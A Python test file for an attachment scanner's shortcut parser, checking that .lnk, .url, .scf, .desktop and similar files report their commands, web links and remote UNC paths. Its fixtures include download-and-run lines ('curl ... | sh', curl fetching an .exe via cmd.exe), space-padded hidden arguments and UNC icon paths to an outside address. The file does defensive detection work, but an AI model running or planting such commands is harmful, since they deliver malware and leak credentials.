"""Shortcuts tell what they start and on whose machine it lies."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from built_files.pages import build_shortcut
from gatepost.message.attachments.openers import shortcut as opener
from gatepost.model.file_kinds import FileKind
from opened_files import codes, links, open_alone, texts

COMMAND = r"C:\Windows\System32\cmd.exe"


def test_a_windows_shortcut_tells_its_command_and_where_it_leads() -> None:
    content = build_shortcut(environment=COMMAND, arguments="/c curl https://a.example/x -o %TEMP%\\x.exe")
    opened = open_alone(opener, content)
    assert opened.kind is FileKind.SHORTCUT
    assert texts(opened, "shortcut.command") == [f"{COMMAND} /c curl https://a.example/x -o %TEMP%\\x.exe"]
    assert links(opened) == ["https://a.example/x"]


def test_arguments_that_are_pushed_out_of_sight_are_seen() -> None:
    assert "shortcut.padded" in codes(open_alone(opener, build_shortcut(arguments=" " * 300 + "/c calc")))


def test_what_stands_behind_a_shortcut_is_opened() -> None:
    opened = open_alone(opener, build_shortcut(arguments="/c x") + b"PK\x03\x04" + b"x" * 100)
    assert codes(opened) == {"shortcut.command", "shortcut.data_behind"}
    assert len(opened.files) == 1


@pytest.mark.parametrize(
    ("name", "content", "place"),
    [
        ("a.lnk", build_shortcut(icon=r"\\192.0.2.1\i\a.ico"), r"\\192.0.2.1\i\a.ico"),
        ("a.url", b"[InternetShortcut]\r\nURL=file://192.0.2.1/x.exe\r\n", "file://192.0.2.1/x.exe"),
        ("a.url", b"[InternetShortcut]\r\nIconFile=\\\\192.0.2.1@80\\x.ico\r\n", r"\\192.0.2.1@80\x.ico"),
        ("a.scf", b"[Shell]\r\nIconFile=\\\\192.0.2.1\\x.ico\r\n", r"\\192.0.2.1\x.ico"),
        (
            "a.library-ms",
            b"<?xml version='1.0'?><libraryDescription><url>\\\\192.0.2.1\\d</url></libraryDescription>",
            r"\\192.0.2.1\d",
        ),
    ],
)
def test_a_place_on_a_strange_machine_is_told(name: str, content: bytes, place: str) -> None:
    assert texts(open_alone(opener, content, name), "shortcut.remote") == [place]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.url", b"[InternetShortcut]\r\nURL=https://a.example/\r\n"),
        ("a.desktop", b"[Desktop Entry]\nType=Link\nURL=https://a.example/\n"),
        (
            "a.webloc",
            b"<?xml version='1.0'?><plist><dict><key>URL</key><string>https://a.example/</string></dict></plist>",
        ),
        ("a.appinstaller", b"<?xml version='1.0'?><AppInstaller Uri='https://a.example/'></AppInstaller>"),
    ],
)
def test_a_link_to_the_web_is_given_on(name: str, content: bytes) -> None:
    opened = open_alone(opener, content, name)
    assert (links(opened), "shortcut.remote" in codes(opened)) == (["https://a.example/"], False)


def test_a_command_of_a_desktop_file_is_told() -> None:
    content = b"[Desktop Entry]\nType=Application\nExec=sh -c 'curl https://a.example/x | sh'\n"
    opened = open_alone(opener, content, "a.desktop")
    assert texts(opened, "shortcut.command") == ["sh -c 'curl https://a.example/x | sh'"]
    assert links(opened) == ["https://a.example/x"]


@given(st.binary(max_size=200), st.sampled_from(["a.url", "a.lnk", "a.desktop", "a.scf", "a.webloc"]))
def test_any_bytes_give_a_value(content: bytes, name: str) -> None:
    open_alone(opener, content, name)
    open_alone(opener, b"[InternetShortcut]\nURL=" + content, name)
